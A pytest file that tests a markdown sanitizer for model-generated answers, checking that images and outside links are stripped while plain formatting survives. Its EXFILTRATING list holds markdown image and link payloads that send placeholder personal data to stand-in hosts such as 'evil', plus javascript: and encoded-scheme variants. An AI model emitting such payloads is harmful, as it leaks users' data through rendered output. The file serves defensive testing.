"""The sanitizer of model text: no image, no link outside the deployment, surrogates and plain text intact."""

from __future__ import annotations

import pytest

from app.ui_pages.safe_markdown import escape_all, link_allowed, no_autolinks, safe_md, unsafe_elements

EXFILTRATING = [
    "![](http://host/?e=<EMAIL_ADDRESS_2>)",
    "![x](https://host/p.png 'title')",
    "![a](http://host/(nested)/p.png)",
    "![alt][ref]\n\n[ref]: http://host/p.png",
    "![alt]\n\n[alt]: http://host/p.png",
    "[x](http://evil/?v=<US_SSN_1>)",
    "[x]( <http://evil/a b> )",
    "[x][r]\n\n[r]: http://evil/",
    "[r]\n\n[r]: http://evil/",
    "[x](//evil/path)",
    "[x](javascript:alert(1))",
    "[x](HTTP://EVIL/)",
    "[x](http&#58;//evil/)",
    "[[x](http://evil/)](http://evil/)",
    "[x\n](http://evil/)",
    "<http://evil/auto>",
    "<mailto:someone@evil.example>",
    "see http://evil/bare and www.evil.example/x",
    "![\\[x\\]](http://host/p.png)",
    "`code` [a `b`](http://evil/) `more`",
    "\\`![](http://host/p.png)`",
]


@pytest.mark.parametrize("text", EXFILTRATING)
def test_no_image_or_outside_link_survives(text: str) -> None:
    out = safe_md(text)
    assert unsafe_elements(out) == [], out
    assert "http://" not in out.replace("\\:", "") or "http\\:" in out, out


def test_link_text_and_surrogates_stay_visible() -> None:
    out = safe_md("See [the policy](http://evil/x) for <PERSON_3>. ![chart](http://h/c.png)")
    assert "the policy" in out and "\\<PERSON\\_3\\>" in out or "\\<PERSON_3\\>" in out
    assert "image removed: chart" in out and "http://evil" not in out


def test_relative_and_allowed_links_are_kept() -> None:
    assert safe_md("[docs](/docs/policy)") == "[docs](/docs/policy)"
    assert safe_md("[top](#answer)") == "[top](#answer)"
    kept = safe_md("[ui](https://rag.corp.example/chat)", allowed_hosts=["rag.corp.example"])
    assert unsafe_elements(kept, ["rag.corp.example"]) == [] and "[ui](" in kept
    assert "[ui](" not in safe_md("[ui](https://rag.corp.example/chat)")


def test_plain_answers_keep_their_formatting() -> None:
    answer = "Employees may work remotely **3 days** a week [1].\n\n- apply in the HR portal\n- cost: 5 $"
    out = safe_md(answer)
    assert "**3 days**" in out and "[1]" in out and "- apply in the HR portal" in out
    assert "\\$" in out  # no math mode


def test_e_mail_addresses_are_not_autolinked() -> None:
    assert no_autolinks("write to jane.doe@example.com") == "write to jane.doe\\@example.com"


@pytest.mark.parametrize(
    ("url", "allowed"),
    [
        ("/a", True),
        ("#x", True),
        ("page.html", True),
        ("//evil/a", False),
        ("http://evil/", False),
        ("javascript:alert(1)", False),
        ("java\tscript:x", False),
        ("https://ok.example/a", True),
        ("ftp://ok.example/a", False),
    ],
)
def test_link_allowed(url: str, allowed: bool) -> None:
    assert link_allowed(url, ["ok.example"]) is allowed


def test_escape_all_renders_nothing_but_text() -> None:
    text = "![a](http://h/x) [b](http://e/) <http://e/> **bold**"
    assert unsafe_elements(escape_all(text)) == []
